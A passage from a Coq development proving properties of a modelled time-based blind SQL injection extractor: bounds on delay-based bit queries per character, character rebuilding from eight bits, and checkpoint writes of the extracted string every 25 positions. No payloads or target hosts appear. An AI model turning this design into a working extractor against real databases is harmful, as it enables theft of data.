    (n <= length xs)%nat.
Proof.
  destruct (first_fast threshold (replies url inj (length xs) (net w)))
    as [Hrs|(before & r & rest & Hrs & Hb & Hr)].
  - exists false, (length xs). split; [by apply retrying_slow|lia].
  - exists true, (Datatypes.S (length before)).
    split; [by eapply retrying_fast|].
    apply (f_equal length) in Hrs.
    rewrite replies_length, length_app in Hrs. cbn in Hrs. lia.
Qed.

Lemma matching_bounded (xs : list Z) (w : World S) :
  exists (v : bool) (n : nat),
    matching url inj threshold xs w = (Ok v, probed url inj n w) /\
    (n <= length xs + 3)%nat /\
    (xs <> [] -> (1 <= n)%nat) /\
    (xs = [] -> v = true).
Proof.
  revert w. induction xs as [|x xs IH]; intros w.
  - exists true, 0%nat. split; [|repeat split; (done || lia)].
    unfold matching, probed. cbn. by destruct w.
  - rewrite matching_step.
    assert (Hgo : exists v n,
               matching url inj threshold xs (probed url inj 1 w) =
               (Ok v, probed url inj n w) /\
               (n <= length (x :: xs) + 3)%nat /\
               (x :: xs <> [] -> (1 <= n)%nat) /\
               (x :: xs = [] -> v = true)).
    { destruct (IH (probed url inj 1 w)) as (v & n & -> & Hn & _).
      rewrite probed_probed. exists v, (1 + n)%nat.
      split; [done|]. cbn [length]. repeat split; (done || lia). }
    destruct (fst (post url inj (net w))) as [e|]; [|exact Hgo].
    destruct (Qltb threshold e); [|exact Hgo].
    destruct (retrying_bounded (range 0 3 1) (probed url inj 1 w))
      as (v & n & -> & Hn).
    rewrite probed_probed. exists v, (1 + n)%nat.
    change (length (range 0 3 1)) with 3%nat in Hn.
    split; [done|]. cbn [length]. repeat split; (done || lia).
Qed.

End Requests.

Lemma range_no_turn (n : Z) : n <= 0 -> range 0 n 1 = [].
Proof.
  intros Hn. unfold range. cbn [Z.ltb Z.compare].
  replace (n - 0 + 1 - 1) with n by lia. rewrite Z.div_1_r.
  by replace (Z.to_nat n) with 0%nat by lia.
Qed.

Section CharacterRequests.
Context {S : Type} `{!Transport S}.
Variables (url : string) (delay_size : Z) (threshold : Q) (position : Z).

Lemma sampling_asked (bit : Z) (xs : list Z) (w : World S) :
  0 <= bit < 8 ->
  exists (b : Z) (w' : World S),
    sampling url (BitTest position bit delay_size) threshold xs w =
    (Ok b, w') /\
    (b = 0 \/ b = 1) /\
    asked (bit_question position delay_size)
      (Nat.min 1 (length xs)) (length xs) w w' /\
    files w' = files w /\
    written w' = written w.
Proof.
  intros Hbit.
  destruct (sampling_bounded url (BitTest position bit delay_size)
              threshold xs w) as (b & n & -> & Hb & Hhi & Hlo & _).
  exists b; eexists. split; [reflexivity|]. split; [exact Hb|].
  split; [|split; reflexivity].
  eapply asked_weaken; [| | |apply asked_probed].
  - intros i ->. by exists bit.
  - destruct xs; [cbn; lia|]. cbn [length]. specialize (Hlo ltac:(done)).
    lia.
  - exact Hhi.
Qed.

(** Rebuilding a character asks between one and [num_samples] times about
    each of the eight bits of its position, and about nothing else. *)
Lemma rebuilding_asked (num_samples : Z) (w : World S) :
  exists (c : ascii) (w' : World S),
    rebuilding url delay_size threshold position num_samples w =
    (Ok c, w') /\
    asked (bit_question position delay_size)
      (8 * Nat.min 1 (Z.to_nat num_samples))
      (8 * Z.to_nat num_samples) w w' /\
    files w' = files w /\
    written w' = written w.
Proof.
  unfold rebuilding. rewrite range_bits. cbn [comprehension].
  unfold bind, ret, lift.
  rewrite <- (length_range_samples num_samples).
  set (xs := range 0 num_samples 1).
  destruct (sampling_asked 7 xs w) as (b7 & w7 & -> & B7 & A7 & F7 & W7);
    [lia|].
  destruct (sampling_asked 6 xs w7) as (b6 & w6 & -> & B6 & A6 & F6 & W6);
    [lia|].
  destruct (sampling_asked 5 xs w6) as (b5 & w5 & -> & B5 & A5 & F5 & W5);
    [lia|].
  destruct (sampling_asked 4 xs w5) as (b4 & w4 & -> & B4 & A4 & F4 & W4);
    [lia|].
  destruct (sampling_asked 3 xs w4) as (b3 & w3 & -> & B3 & A3 & F3 & W3);
    [lia|].
  destruct (sampling_asked 2 xs w3) as (b2 & w2 & -> & B2 & A2 & F2 & W2);
    [lia|].
  destruct (sampling_asked 1 xs w2) as (b1 & w1 & -> & B1 & A1 & F1 & W1);
    [lia|].
  destruct (sampling_asked 0 xs w1) as (b0 & w0 & -> & B0 & A0 & F0 & W0);
    [lia|].
  cbv beta iota.
  destruct (digits_make_a_character b7 b6 b5 b4 b3 b2 b1 b0)
    as (code & c & -> & ->); try assumption.
  exists c, w0. split; [reflexivity|].
  split; [|split; congruence].
  pose proof (asked_trans _ _ _ _ _ _ _ _ A7 A6) as A.
  pose proof (asked_trans _ _ _ _ _ _ _ _ A A5) as A'. clear A.
  pose proof (asked_trans _ _ _ _ _ _ _ _ A' A4) as A. clear A'.
  pose proof (asked_trans _ _ _ _ _ _ _ _ A A3) as A'. clear A.
  pose proof (asked_trans _ _ _ _ _ _ _ _ A' A2) as A. clear A'.
  pose proof (asked_trans _ _ _ _ _ _ _ _ A A1) as A'. clear A.
  pose proof (asked_trans _ _ _ _ _ _ _ _ A' A0) as A. clear A'.
  eapply asked_weaken; [| | |exact A]; [done|lia|lia].
Qed.

(** Without a sample nothing is asked and every bit reads as 1. *)
Lemma rebuilding_no_sample (num_samples : Z) (w : World S) :
  num_samples <= 0 ->
  rebuilding url delay_size threshold position num_samples w =
  (Ok (ascii_of_N 255), w).
Proof.
  intros Hn. unfold rebuilding. rewrite (range_no_turn _ Hn), range_bits.
  reflexivity.
Qed.

End CharacterRequests.

(** ** The log of the writes *)

(** The requests are kept latest first, turn by turn; their number does
    not depend on the order. *)
Lemma length_concat_rev {A : Type} (l : list (list A)) :
  length (concat (rev l)) = length (concat l).
Proof.
  induction l as [|x l IH]; [done|].
  cbn [rev concat]. rewrite concat_app, !length_app, IH.
  cbn [concat]. rewrite app_nil_r. lia.
Qed.


(** One more turn adds at most one checkpoint and leaves the earlier ones
    as they were. *)
Lemma checkpoint_writes_snoc (every : Z) (lag : nat) (path : string)
    (before : nat) (turns : list (list injection)) (new : list injection)
    (text : string) (c : ascii) :
  String.length text = length turns ->
  checkpoint_writes every lag path before (turns ++ [new])
    (text +:+ String c EmptyString) =
  checkpoint_writes every lag path before turns text ++
  (if Z.of_nat (Datatypes.S (length turns)) mod every =? 0
   then [((before +
           length (concat (take (Datatypes.S (length turns) - lag)
                             (turns ++ [new]))))%nat,
          path,
          substring 0 (Datatypes.S (length turns) - lag)
            (text +:+ String c EmptyString))]
   else []).
Proof.
  intros Hlen. unfold checkpoint_writes.
  rewrite length_app. cbn [length].
  replace (length turns + 1)%nat with (Datatypes.S (length turns)) by lia.
  rewrite seq_S, flat_map_app. cbn [flat_map Nat.add].
  rewrite app_nil_r. f_equal.
  rewrite !flat_map_concat_map. f_equal.
  apply map_ext_in. intros k Hk. apply in_seq in Hk.
  destruct (Z.of_nat k mod every =? 0); [|done].
  rewrite take_app_le by lia.
  rewrite substring_within by lia. done.
Qed.




Section OnDisk.
Variables (every : Z) (lag : nat) (path : string) (before : nat)
  (turns : list (list injection)) (text : string).
Hypothesis every_positive : 0 < every.

Local Notation "'checkpoint'" :=
  (fun k : nat =>
     if Z.of_nat k mod every =? 0
     then [((before + length (concat (take (k - lag) turns)))%nat, path,
            substring 0 (k - lag) text)]
     else []).



End OnDisk.


(** The last write of a loop that has just made a checkpoint. *)
Lemma checkpoint_writes_last (every : Z) (lag : nat) (path : string)
    (before : nat) (turns : list (list injection)) (text : string) :
  (0 < length turns)%nat ->
  Z.of_nat (length turns) mod every = 0 ->
  head (rev (checkpoint_writes every lag path before turns text)) =
  Some ((before + length (concat (take (length turns - lag) turns)))%nat,
        path, substring 0 (length turns - lag) text).
Proof.
  intros Hpos Hmod. unfold checkpoint_writes.
  destruct (length turns) as [|n] eqn:E; [lia|].
  rewrite seq_S, flat_map_app, rev_app_distr. cbn [flat_map Nat.add].
  rewrite Hmod. reflexivity.
Qed.

(** A checkpoint is in the log of the writes. *)
Lemma checkpoint_writes_elem (every : Z) (lag : nat) (path : string)
    (before : nat) (turns : list (list injection)) (text : string)
    (k : nat) :
  (1 <= k <= length turns)%nat ->
  Z.of_nat k mod every = 0 ->
  ((before + length (concat (take (k - lag) turns)))%nat, path,
   substring 0 (k - lag) text)
  ∈ rev (checkpoint_writes every lag path before turns text).
Proof.
  intros Hk Hmod. apply list_elem_of_In, in_rev. rewrite rev_involutive.
  unfold checkpoint_writes. apply in_flat_map. exists k. split.
  - apply in_seq. lia.
  - rewrite Hmod. by left.
Qed.



(** The positions of a loop, by their number. *)
Lemma range_positions_to_nat (n : Z) :
  range 1 (n + 1) 1 = range 1 (Z.of_nat (Z.to_nat n) + 1) 1.
Proof.
  rewrite range_positions. replace (n + 1) with (1 + n) by lia.
  rewrite range_up. apply map_ext. intros i. lia.
Qed.

(** ** The extraction loop *)

Section Extraction.
Context {S : Type} `{!Transport S}.
Variables (self : BlindSQLInjection.t) (output_file : string).

Local Notation "'body'" :=
  (BlindSQLInjection.extract_string_body self output_file).

(** One turn appends one character and, on a multiple of 25, overwrites
    the file with the string so far. *)
Lemma extract_string_body_spec (result : string) (position : Z)
    (w : World S) :
  exists (c : ascii) (w' : World S),
    body result position w = (Ok (result +:+ String c EmptyString), w') /\
    files w' =
    if position mod 25 =? 0
    then <[output_file := result +:+ String c EmptyString]> (files w)
    else files w.
Proof.
  unfold BlindSQLInjection.extract_string_body, bind.
  destruct (extract_character_total self position 1 w)
    as (c1 & w1 & -> & Hf1).
  destruct (bool_decide (c1 ∉ BlindSQLInjection.VALID_CHARS)).
  - destruct (extract_character_total self position 7 w1)
      as (c2 & w2 & -> & Hf2).
    exists c2. unfold write_file, ret.
    destruct (position mod 25 =? 0); eexists; (split; [reflexivity|]);
      cbn [files]; congruence.
  - exists c1. unfold write_file, ret.
    destruct (position mod 25 =? 0); eexists; (split; [reflexivity|]);
      cbn [files]; congruence.
Qed.

(** The loop never fails and only ever appends. *)
Lemma extract_loop_appends (xs : list Z) (result : string) (w : World S) :
  exists (added : string) (w' : World S),
    for_fold xs body result w = (Ok (result +:+ added), w') /\
    String.length added = length xs.
Proof.
  revert result w. induction xs as [|x xs IH]; intros result w.
  - exists EmptyString, w. by rewrite append_empty_r.
  - cbn [for_fold]. unfold bind.
    destruct (extract_string_body_spec result x w) as (c & w1 & -> & _).
    destruct (IH (result +:+ String c EmptyString) w1)
      as (added & w2 & -> & Hlen).
    exists (String c added), w2.
    rewrite append_assoc, append_cons, append_empty_l.
    cbn [String.length length].
    by rewrite Hlen.
Qed.

(** The state after [k] positions: [k] characters, and on a multiple of
    25 the file holds exactly them. *)
Lemma extract_loop_checkpoint (k : nat) (w : World S) :
  exists (result : string) (w' : World S),
    for_fold (range 1 (Z.of_nat k + 1) 1) body EmptyString w =
    (Ok result, w') /\
    String.length result = k /\
    ((0 < k)%nat -> Z.of_nat k mod 25 = 0 ->
     files w' !! output_file = Some result).
Proof.
  induction k as [|k (result & w1 & Hrun & Hlen & _)].
  - exists EmptyString, w. repeat split. lia.
  - rewrite range_positions_snoc, (for_fold_snoc _ _ _ _ _ _ _ Hrun).
    destruct (extract_string_body_spec result (Z.of_nat k + 1) w1)
      as (c & w2 & -> & Hfiles).
    eexists; eexists. split; [reflexivity|]. split.
    + rewrite length_append, Hlen. cbn. lia.
    + intros _ Hmod. rewrite Hfiles.
      replace (Z.of_nat k + 1) with (Z.of_nat (Datatypes.S k)) by lia.
      rewrite Hmod. cbn [Z.eqb]. apply lookup_insert_eq.
Qed.

(** One turn, by what it leaves in the world: the requests it sent, all
    of them bit questions about its position, between 8 and 64 of them, and
    on a multiple of 25 one write of the string so far, made after them. *)
Lemma extract_string_body_log (result : string) (position : Z)
    (w : World S) :
  exists (c : ascii) (new : list injection) (w' : World S),
    body result position w = (Ok (result +:+ String c EmptyString), w') /\
    sent w' = new ++ sent w /\
    Forall (bit_question position (BlindSQLInjection.delay_size self)) new /\
    (8 <= length new <= 64)%nat /\
    written w' =
    (if position mod 25 =? 0
     then [(length (sent w'), output_file,
            result +:+ String c EmptyString)]
     else []) ++ written w.
Proof.
  unfold BlindSQLInjection.extract_string_body, bind.
  rewrite !extract_character_rebuilding.
  destruct (rebuilding_asked (reset_url (BlindSQLInjection.server self))
              (BlindSQLInjection.delay_size self)
              (BlindSQLInjection.threshold self) position 1 w)
    as (c1 & w1 & -> & A1 & _ & W1).
  change (8 * Nat.min 1 (Z.to_nat 1))%nat with 8%nat in A1.
  change (8 * Z.to_nat 1)%nat with 8%nat in A1.
  assert (Hwrite : forall (c : ascii) (w0 : World S),
    asked (bit_question position (BlindSQLInjection.delay_size self))
      8 64 w w0 ->
    written w0 = written w ->
    exists (new : list injection) (w' : World S),
      (let (o, w') :=
         (if position mod 25 =? 0
          then write_file output_file (result +:+ String c EmptyString)
          else ret tt) w0 in
       match o with
       | Ok _ => ret (result +:+ String c EmptyString) w'
       | Raise e => (Raise e, w')
       end) = (Ok (result +:+ String c EmptyString), w') /\
      sent w' = new ++ sent w /\
      Forall (bit_question position (BlindSQLInjection.delay_size self))
        new /\
      (8 <= length new <= 64)%nat /\
      written w' =
      (if position mod 25 =? 0
       then [(length (sent w'), output_file,
              result +:+ String c EmptyString)]
       else []) ++ written w).
  { intros c w0 (new & E & F & L) W0. exists new.
    unfold write_file, ret.
    destruct (position mod 25 =? 0); eexists;
      (split; [reflexivity|]); cbn [sent written];
      (split; [exact E|]); (split; [exact F|]); (split; [exact L|]).
    - by rewrite W0.
    - exact W0. }
  destruct (bool_decide (c1 ∉ BlindSQLInjection.VALID_CHARS)).
  - destruct (rebuilding_asked (reset_url (BlindSQLInjection.server self))
                (BlindSQLInjection.delay_size self)
                (BlindSQLInjection.threshold self) position 7 w1)
      as (c2 & w2 & -> & A2 & _ & W2).
    exists c2. apply Hwrite; [|congruence].
    eapply asked_weaken; [| | |exact (asked_trans _ _ _ _ _ _ _ _ A1 A2)];
      [done|lia|cbn; lia].
  - exists c1. apply Hwrite; [|exact W1].
    eapply asked_weaken; [| | |exact A1]; [done|lia|lia].
Qed.

(** The loop, position by position.  The [n] turns build a string of [n]
    characters; after the first [k] of them the string in memory is its
    first [k] characters, the requests sent are those of the first [k]
    turns, and the writes made are the checkpoints among them, each made
    right after the requests of its turn. *)
Lemma extract_loop_log (n : nat) (w : World S) :
  exists (result : string) (turns : list (list injection)),
    String.length result = n /\
    length turns = n /\
    Forall2
      (fun (position : Z) (new : list injection) =>
         Forall (bit_question position (BlindSQLInjection.delay_size self))
           new /\
         (8 <= length new <= 64)%nat)
      (range 1 (Z.of_nat n + 1) 1) turns /\
    forall k : nat,
      (k <= n)%nat ->
      exists w_k : World S,
        for_fold (range 1 (Z.of_nat k + 1) 1) body EmptyString w =
        (Ok (substring 0 k result), w_k) /\
        sent w_k = concat (rev (take k turns)) ++ sent w /\
        written w_k =
        rev (checkpoint_writes 25 0 output_file (length (sent w))
               (take k turns) (substring 0 k result)) ++ written w.
Proof.
  induction n as [|n (result & turns & Hlen & Hturns & Hper & Hk)].
  - exists EmptyString, []. split; [done|]. split; [done|].
    split; [constructor|].
    intros k Hk. replace k with 0%nat by lia. by exists w.
  - destruct (Hk n ltac:(lia)) as (w_n & Hrun & Hsent & Hwritten).
    assert (Hwhole : substring 0 n result = result)
      by (rewrite <- Hlen; apply substring_whole).
    assert (Hall : take n turns = turns)
      by (rewrite <- Hturns; apply firstn_all).
    rewrite Hwhole in Hrun, Hwritten. rewrite Hall in Hsent, Hwritten.
    destruct (extract_string_body_log result (Z.of_nat n + 1) w_n)
      as (c & new & w' & Hbody & Hsent' & Hq & Hbound & Hwritten').
    exists (result +:+ String c EmptyString), (turns ++ [new]).
    split; [rewrite length_append, Hlen; cbn; lia|].
    split; [rewrite length_app, Hturns; cbn; lia|].
    split.
    { rewrite range_positions_snoc. apply Forall2_app; [exact Hper|].
      constructor; [by split|constructor]. }
    intros k Hle. destruct (Nat.eq_dec k (Datatypes.S n)) as [->|Hne].
    + exists w'.
      rewrite range_positions_snoc, (for_fold_snoc _ _ _ _ _ _ _ Hrun).
      assert (Hwhole' : substring 0 (Datatypes.S n)
                          (result +:+ String c EmptyString) =
                        result +:+ String c EmptyString).
      { replace (Datatypes.S n)
          with (String.length (result +:+ String c EmptyString))
          by (rewrite length_append, Hlen; cbn; lia).
        apply substring_whole. }
      assert (Hall' : take (Datatypes.S n) (turns ++ [new]) = turns ++ [new]).
      { replace (Datatypes.S n) with (length (turns ++ [new]))
          by (rewrite length_app, Hturns; cbn; lia).
        apply firstn_all. }
      rewrite Hwhole', Hall'.
      split; [exact Hbody|]. split.
      { rewrite rev_app_distr. cbn [rev app concat].
        rewrite <- app_assoc, <- Hsent. exact Hsent'. }
      rewrite checkpoint_writes_snoc by lia.
      rewrite rev_app_distr, <- app_assoc, <- Hwritten, Hwritten'.
      rewrite Hturns.
      replace (Z.of_nat (Datatypes.S n)) with (Z.of_nat n + 1) by lia.
      destruct ((Z.of_nat n + 1) mod 25 =? 0); [|done].
      cbn [rev app]. do 3 f_equal.
      * rewrite Hsent', Hsent, !length_app, length_concat_rev.
        rewrite Nat.sub_0_r, Hall', concat_app, length_app. cbn [concat].
        rewrite app_nil_r. lia.
      * by rewrite Nat.sub_0_r, Hwhole'.
    + destruct (Hk k ltac:(lia)) as (w_k & Hrun_k & Hsent_k & Hwritten_k).
      exists w_k.
      rewrite substring_within by lia.
      rewrite take_app_le by lia.
      by repeat split.
Qed.

End Extraction.

Section ExtractionCost.
Context {S : Type} `{!Transport S}.
Variables (self : BlindSQLInjection.t) (output_file : string).

(** One turn: one character more, between 8 and 64 bit questions about its
    position, and at most the output file written. *)
Lemma extract_string_body_asked (result : string) (position : Z)
    (w : World S) :
  exists (c : ascii) (w' : World S),
    BlindSQLInjection.extract_string_body self output_file result
      position w = (Ok (result +:+ String c EmptyString), w') /\
    asked (bit_question position (BlindSQLInjection.delay_size self))
      8 64 w w' /\
    (files w' = files w \/
     exists text, files w' = <[output_file := text]> (files w)).
Proof.
  unfold BlindSQLInjection.extract_string_body, bind.
  rewrite !extract_character_rebuilding.
  destruct (rebuilding_asked (reset_url (BlindSQLInjection.server self))
              (BlindSQLInjection.delay_size self)
              (BlindSQLInjection.threshold self) position 1 w)
    as (c1 & w1 & -> & A1 & F1 & _).
  change (8 * Nat.min 1 (Z.to_nat 1))%nat with 8%nat in A1.
  change (8 * Z.to_nat 1)%nat with 8%nat in A1.
  assert (Hwrite : forall (c : ascii) (w0 : World S),
    asked (bit_question position (BlindSQLInjection.delay_size self))
      8 64 w w0 ->
    files w0 = files w ->
    exists w' : World S,
      (let (o, w') :=
         (if position mod 25 =? 0
          then write_file output_file (result +:+ String c EmptyString)
          else ret tt) w0 in
       match o with
       | Ok _ => ret (result +:+ String c EmptyString) w'
       | Raise e => (Raise e, w')
       end) = (Ok (result +:+ String c EmptyString), w') /\
      asked (bit_question position (BlindSQLInjection.delay_size self))
        8 64 w w' /\
      (files w' = files w \/
       exists text, files w' = <[output_file := text]> (files w))).
  { intros c w0 A0 F0. unfold write_file, ret.
    destruct (position mod 25 =? 0); eexists;
      (split; [reflexivity|]); (split; [exact A0|]); cbn [files].
    - right. eexists. by rewrite F0.
    - by left. }
  destruct (bool_decide (c1 ∉ BlindSQLInjection.VALID_CHARS)).
  - destruct (rebuilding_asked (reset_url (BlindSQLInjection.server self))
                (BlindSQLInjection.delay_size self)
                (BlindSQLInjection.threshold self) position 7 w1)
      as (c2 & w2 & -> & A2 & F2 & _).
    exists c2. apply Hwrite; [|congruence].
    eapply asked_weaken; [| | |exact (asked_trans _ _ _ _ _ _ _ _ A1 A2)];
      [done|lia|cbn; lia].
  - exists c1. apply Hwrite; [|exact F1].
    eapply asked_weaken; [| | |exact A1]; [done|lia|lia].
Qed.

Lemma extract_loop_asked (xs : list Z) (result : string) (w : World S) :
  exists (added : string) (w' : World S),
    for_fold xs (BlindSQLInjection.extract_string_body self output_file)
      result w = (Ok (result +:+ added), w') /\
    String.length added = length xs /\
    asked
      (fun inj =>
         exists p, p ∈ xs /\
           bit_question p (BlindSQLInjection.delay_size self) inj)
      (8 * length xs) (64 * length xs) w w' /\
    (files w' = files w \/
     exists text, files w' = <[output_file := text]> (files w)).
Proof.
  revert result w. induction xs as [|x xs IH]; intros result w.
  - exists EmptyString, w. rewrite append_empty_r.
    split; [reflexivity|]. split; [reflexivity|].
    split; [apply asked_refl|by left].
  - cbn [for_fold]. unfold bind.
    destruct (extract_string_body_asked result x w)
      as (c & w1 & -> & A1 & F1).
    destruct (IH (result +:+ String c EmptyString) w1)
      as (added & w2 & -> & Hlen & A2 & F2).
    exists (String c added), w2.
    rewrite append_assoc, append_cons, append_empty_l.
    split; [reflexivity|]. split; [cbn [String.length length]; lia|].
    split.
    + eapply asked_weaken;
        [| | |apply (asked_trans
                       (fun inj =>
                          exists p, p ∈ x :: xs /\
                            bit_question p
                              (BlindSQLInjection.delay_size self) inj)
                       8 64 (8 * length xs) (64 * length xs) w w1 w2)];
        [done|cbn [length]; lia|cbn [length]; lia| |].
      * eapply asked_weaken; [| | |exact A1]; [|lia|lia].
        intros inj Hq. exists x. split; [by left|exact Hq].
      * eapply asked_weaken; [| | |exact A2]; [|lia|lia].
        intros inj (p & Hp & Hq). exists p. split; [by right|exact Hq].
    + destruct F2 as [F2|[text F2]], F1 as [F1|[text1 F1]].
      * left. congruence.
      * right. exists text1. congruence.
      * right. exists text. congruence.
      * right. exists text. rewrite F2, F1. apply insert_insert_eq.
Qed.

End ExtractionCost.

Lemma range_positions_elem (n : nat) (p : Z) :
  p ∈ range 1 (Z.of_nat n + 1) 1 -> 1 <= p <= Z.of_nat n.
Proof.
  rewrite range_positions. intros Hp.
  apply list_elem_of_fmap in Hp as (i & -> & Hi).
  apply elem_of_seq in Hi. lia.
Qed.

(** The run of [extract_string] on any channel. *)
Lemma extract_string_run {S : Type} `{!Transport S}
    (self : BlindSQLInjection.t) (max_chars : Z) (output_file : string)
    (w : World S) :
  exists (result : string) (w' : World S),
    BlindSQLInjection.extract_string self max_chars output_file w =
    (Ok result, w') /\
    len result = Z.max 0 max_chars /\
    files w' = <[output_file := result]> (files w) /\
    asked
      (fun inj =>
         exists p, 1 <= p <= max_chars /\
           bit_question p (BlindSQLInjection.delay_size self) inj)
      (8 * Z.to_nat max_chars) (64 * Z.to_nat max_chars) w w'.
Proof.
  unfold BlindSQLInjection.extract_string, bind.
  destruct (extract_loop_asked self output_file
              (range 1 (max_chars + 1) 1) EmptyString w)
    as (result & w1 & Hrun & Hlen & Hasked & Hfiles).
  rewrite append_empty_l in Hrun. rewrite Hrun.
  assert (Hn : length (range 1 (max_chars + 1) 1) = Z.to_nat max_chars).
  { replace (max_chars + 1) with (1 + max_chars) by lia.
    by rewrite range_up, length_map, length_seq. }
  rewrite Hn in Hlen, Hasked.
  eexists; eexists. split; [reflexivity|]. split; [unfold len; lia|].
  split.
  - cbn [files]. destruct Hfiles as [->|[text ->]]; [done|].
    apply insert_insert_eq.
  - destruct Hasked as (new & E & F & L). exists new.
    split; [exact E|]. split; [|exact L].
    eapply Forall_impl; [exact F|]. intros inj (p & Hp & Hq).
    exists p. split; [|exact Hq].
    destruct (Z.le_gt_cases max_chars 0) as [Hle|Hgt].
    + replace (range 1 (max_chars + 1) 1) with (@nil Z) in Hp.
      * by apply elem_of_nil in Hp.
      * symmetry. apply length_zero_iff_nil. rewrite Hn. lia.
    + rewrite <- (Z2Nat.id max_chars) in Hp by lia.
      apply range_positions_elem in Hp. lia.
Qed.

(** The run of [extract_string] with its requests, turn by turn, and its
    writes. *)
Lemma extract_string_log {S : Type} `{!Transport S}
    (self : BlindSQLInjection.t) (max_chars : Z) (output_file : string)
    (w : World S) :
  exists (result : string) (turns : list (list injection))
         (w_end : World S),
    BlindSQLInjection.extract_string self max_chars output_file w =
    (Ok result, w_end) /\
    String.length result = Z.to_nat max_chars /\
    length turns = Z.to_nat max_chars /\
    Forall2
      (fun (position : Z) (new : list injection) =>
         Forall (bit_question position (BlindSQLInjection.delay_size self))
           new /\
         (8 <= length new <= 64)%nat)
      (range 1 (max_chars + 1) 1) turns /\
    sent w_end = concat (rev turns) ++ sent w /\
    files w_end = <[output_file := result]> (files w) /\
    written w_end =
    (length (sent w_end), output_file, result) ::
    rev (checkpoint_writes 25 0 output_file (length (sent w)) turns result) ++
    written w /\
    forall k : nat,
      (k <= Z.to_nat max_chars)%nat ->
      exists w_k : World S,
        for_fold (range 1 (Z.of_nat k + 1) 1)
          (BlindSQLInjection.extract_string_body self output_file)
          EmptyString w = (Ok (substring 0 k result), w_k) /\
        sent w_k = concat (rev (take k turns)) ++ sent w /\
        written w_k =
        rev (checkpoint_writes 25 0 output_file (length (sent w))
               (take k turns) (substring 0 k result)) ++ written w.
Proof.
  destruct (extract_loop_log self output_file (Z.to_nat max_chars) w)
    as (result & turns & Hlen & Hturns & Hper & Hk).
  destruct (Hk (Z.to_nat max_chars) ltac:(lia))
    as (w1 & Hrun & Hsent & Hwritten).
  assert (Hwhole : substring 0 (Z.to_nat max_chars) result = result)
    by (rewrite <- Hlen; apply substring_whole).
  assert (Hall : take (Z.to_nat max_chars) turns = turns)
    by (rewrite <- Hturns; apply firstn_all).
  rewrite Hwhole in Hrun, Hwritten. rewrite Hall in Hsent, Hwritten.
  rewrite <- range_positions_to_nat in Hrun, Hper.
  destruct (extract_loop_asked self output_file
              (range 1 (max_chars + 1) 1) EmptyString w)
    as (added & w1' & Hrun' & _ & _ & Hfiles).
  rewrite Hrun in Hrun'. injection Hrun' as _ <-.
  exists result, turns. unfold BlindSQLInjection.extract_string, bind.
  rewrite Hrun. unfold write_file, ret. eexists.
  split; [reflexivity|]. cbn [sent files written].
  split; [exact Hlen|]. split; [exact Hturns|]. split; [exact Hper|].
  split; [exact Hsent|]. split.
  { destruct Hfiles as [->|[text ->]]; [done|]. apply insert_insert_eq. }
  split; [by rewrite Hwritten|]. exact Hk.
Qed.

(** C4: the extraction loop checkpoints what it has.  [extract_string]
    always returns, and at completion the output file holds the whole
    result whether or not the last position is a multiple of 25: the final
    write is the last entry of the log.  Before it the log holds one write
    for every position that is a multiple of 25 and no other: for every
    [k] with [1 <= k <= max_chars] and [k mod 25 = 0], right after the
    [k]-th position has been processed (after the requests of the first
    [k] turns and before any other) the file is written with exactly the
    string in memory, which is the first [k] characters of the final
    result. *)
Theorem extraction_checkpoints {S : Type} `{!Transport S}
    (self : BlindSQLInjection.t) (max_chars : Z) (output_file : string)
    (w : World S) :
  exists (result : string) (turns : list (list injection))
         (w_end : World S),
    BlindSQLInjection.extract_string self max_chars output_file w =
    (Ok result, w_end) /\
    files w_end !! output_file = Some result /\
    Forall2
      (fun (position : Z) (new : list injection) =>
         Forall (bit_question position (BlindSQLInjection.delay_size self))
           new)
      (range 1 (max_chars + 1) 1) turns /\
    sent w_end = concat (rev turns) ++ sent w /\
    written w_end =
    (length (sent w_end), output_file, result) ::
    rev (checkpoint_writes 25 0 output_file (length (sent w)) turns result) ++
    written w /\
    forall k : Z,
      1 <= k <= max_chars -> k mod 25 = 0 ->
      exists (result_k : string) (w_k : World S),
        for_fold (range 1 (k + 1) 1)
          (BlindSQLInjection.extract_string_body self output_file)
          EmptyString w = (Ok result_k, w_k) /\
        len result_k = k /\
        result_k = substring 0 (Z.to_nat k) result /\
        files w_k !! output_file = Some result_k /\
        sent w_k = concat (rev (take (Z.to_nat k) turns)) ++ sent w /\
        head (written w_k) =
        Some (length (sent w_k), output_file, result_k) /\
        (length (sent w_k), output_file, result_k) ∈ written w_end.
Proof.
  destruct (extract_string_log self max_chars output_file w)
    as (result & turns & w_end & Hrun & Hlen & Hturns & Hper & Hsent &
        Hfiles & Hwritten & Hk).
  exists result, turns, w_end. split; [exact Hrun|].
  split; [rewrite Hfiles; apply lookup_insert_eq|].
  split.
  { eapply Forall2_impl; [exact Hper|]. by intros position new [Hq _]. }
  split; [exact Hsent|]. split; [exact Hwritten|].
  intros k Hrange Hmod.
  destruct (Hk (Z.to_nat k) ltac:(lia)) as (w_k & Hrun_k & Hsent_k & Hwr_k).
  rewrite Z2Nat.id in Hrun_k by lia.
  destruct (extract_loop_checkpoint self output_file (Z.to_nat k) w)
    as (result_k & w_k' & Hrun_k' & Hlen_k & Hfile_k).
  rewrite Z2Nat.id in Hrun_k', Hfile_k by lia.
  rewrite Hrun_k in Hrun_k'. injection Hrun_k' as <- <-.
  assert (Htake : length (take (Z.to_nat k) turns) = Z.to_nat k)
    by (rewrite length_take; lia).
  assert (Hstamp : length (sent w_k) =
                   (length (sent w) +
                    length (concat (take (Z.to_nat k) turns)))%nat).
  { rewrite Hsent_k, length_app, length_concat_rev. lia. }
  exists (substring 0 (Z.to_nat k) result), w_k.
  split; [exact Hrun_k|]. split; [unfold len; lia|]. split; [done|].
  split; [apply Hfile_k; [lia|exact Hmod]|]. split; [exact Hsent_k|].
  split.
  - rewrite Hwr_k.
    pose proof (checkpoint_writes_last 25 0 output_file (length (sent w))
                  (take (Z.to_nat k) turns)
                  (substring 0 (Z.to_nat k) result)) as Hlast.
    rewrite Htake, Nat.sub_0_r, Z2Nat.id in Hlast by lia.
    specialize (Hlast ltac:(lia) Hmod).
    pose proof (substring_whole (substring 0 (Z.to_nat k) result))
      as Hidem.
    rewrite Hlen_k in Hidem.
    rewrite take_take, Nat.min_id, Hidem, <- Hstamp in Hlast.
    destruct (rev (checkpoint_writes 25 0 output_file (length (sent w))
                     (take (Z.to_nat k) turns)
                     (substring 0 (Z.to_nat k) result)))
      as [|e es]; [done|exact Hlast].
  - rewrite Hwritten, Hstamp. apply elem_of_cons. right.
    apply elem_of_app. left.
    pose proof (checkpoint_writes_elem 25 0 output_file (length (sent w))
                  turns result (Z.to_nat k) ltac:(lia)) as Helem.
